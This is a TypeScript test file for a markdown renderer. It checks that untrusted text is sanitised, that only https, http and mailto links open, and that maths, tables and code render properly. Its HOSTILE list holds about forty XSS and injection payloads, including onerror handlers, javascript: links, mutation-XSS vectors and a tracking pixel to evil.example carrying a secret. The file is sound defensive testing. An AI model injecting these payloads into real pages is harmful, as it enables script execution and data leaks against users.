import { beforeAll, describe, expect, it } from "vitest";
import { renderMarkdown } from "./document";
import { prepareAll } from "./extras";
import { allowedAddress } from "./links";

beforeAll(() => prepareAll());

const render = (text: string) =>
  renderMarkdown(text)
    .map((block) => block.html)
    .join("");
const dom = (text: string) => {
  const element = document.createElement("div");
  element.innerHTML = render(text);
  return element;
};

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<iframe src=https://evil.example></iframe>",
  "<form action=https://evil.example><button>go</button></form>",
  "<a href=javascript:alert(1)>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](file:///etc/passwd)",
  "[x](vbscript:msgbox)",
  "[x](//evil.example/x)",
  "[x](/etc/passwd)",
  "[x](#top)",
  "[x](tauri://localhost/)",
  "[x](attachment://localhost/1)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/pixel.png?secret=1)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  '![x](x "onerror=alert(1)")',
  "[a]: javascript:alert(1)\n\n[a]",
  '<div style="position:fixed;inset:0">cover</div>',
  "<b style=color:red onclick=alert(1)>x</b>",
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<object data=x></object><embed src=x>",
  "<video src=https://evil.example/x autoplay></video>",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "```js\n</code></pre><script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\htmlStyle{position:fixed}{x}$",
  "$\\includegraphics{https://evil.example/x.png}$",
  "$$\\def\\a{\\a\\a}\\a$$",
  "$<img src=x onerror=alert(1)>$",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "[<img src=x onerror=alert(1)>](https://example.com)",
  '[x](https://example.com "\\"><img src=x onerror=alert(1)>")',
  '<span data-piece="0"></span> `x`\n\n```js\n1\n```',
  "<!-- <img src=x onerror=alert(1)> -->",
  '[^"><img src=x onerror=alert(1)>]: note',
];

describe("untrusted text", () => {
  it.each(HOSTILE)("is harmless: %s", (text) => {
    const element = dom(text);
    const forbidden =
      "script, img, svg image, iframe, form, input, object, embed, video, audio, base, meta, link, style, svg a";
    expect(element.querySelectorAll(forbidden)).toHaveLength(0);
    for (const node of element.querySelectorAll("*")) {
      for (const attribute of node.attributes) {
        expect(attribute.name).not.toMatch(/^on|^src|^srcset|^action|^formaction/);
        if (attribute.name === "style") expect(node.closest(".katex, .katex-error")).not.toBeNull();
        if (attribute.name === "href") expect(attribute.value).toMatch(/^(https?:\/\/|mailto:)/);
      }
    }
  });

  it("shows raw HTML as what it is", () => {
    expect(dom("<div onclick=x>hi</div>").textContent).toContain("<div onclick=x>hi</div>");
  });

  it("keeps bare formatting tags", () => {
    const element = dom("H<sub>2</sub>O, a<br>b, <kbd>Ctrl</kbd>");
    expect(element.querySelector("sub")?.textContent).toBe("2");
    expect(element.querySelector("br")).not.toBeNull();
    expect(element.querySelector("kbd")).not.toBeNull();
  });

  it("names a remote picture instead of loading it", () => {
    const link = dom("![A screw](https://example.com/screw.png)").querySelector("a");
    expect(link?.textContent).toBe("A screw example.com");
  });
});

describe("links", () => {
  it.each(["https://example.com/", "http://localhost:8080/x", "mailto:a@example.com"])("opens %s", (address) =>
    expect(allowedAddress(address)).toBe(address),
  );
  it.each(["javascript:alert(1)", "file:///x", "ftp://x", "//x", "x", "", "https://google.com@evil.example/", "tel:1"])(
    "refuses %s",
    (address) => expect(allowedAddress(address)).toBeNull(),
  );
});

describe("maths", () => {
  it.each(["$x^2$", "这里的$x$是", "$$x$$", "\\(x\\)", "\\[x\\]", "a $x$, b", "$$\nx\n$$", "\\[\nx\n\\]"])(
    "reads %j",
    (text) => expect(dom(text).querySelector(".katex")).not.toBeNull(),
  );
  it.each(["$5 and $10", "US$5-$10", "a $ b $ c", "costs $5.", "`$x$`", "\\$x\\$", "$5/$10"])(
    "leaves %j as text",
    (text) => expect(dom(text).querySelector(".katex")).toBeNull(),
  );
  it("shows what it cannot read as it was written", () => {
    expect(dom("$\\nonsense{x}$").textContent).toContain("\\nonsense{x}");
  });
});

describe("tables and code", () => {
  it("right-aligns figures", () => {
    const element = dom("| Item | Price | Share |\n|---|---|---|\n| A | 2.50 | 12 % |\n| B | €3.20 | – |");
    expect([...element.querySelectorAll("th")].map((cell) => cell.className)).toEqual(["", "figures", "figures"]);
  });
  it("labels and highlights code", () => {
    const element = dom("```python title=x\nprint('a < b')\n```");
    expect(element.querySelector(".code-language")?.textContent).toBe("python");
    expect(element.querySelector(".hljs-string")?.textContent).toBe("'a < b'");
    expect(element.querySelector("[data-code=copy]")).not.toBeNull();
  });
});
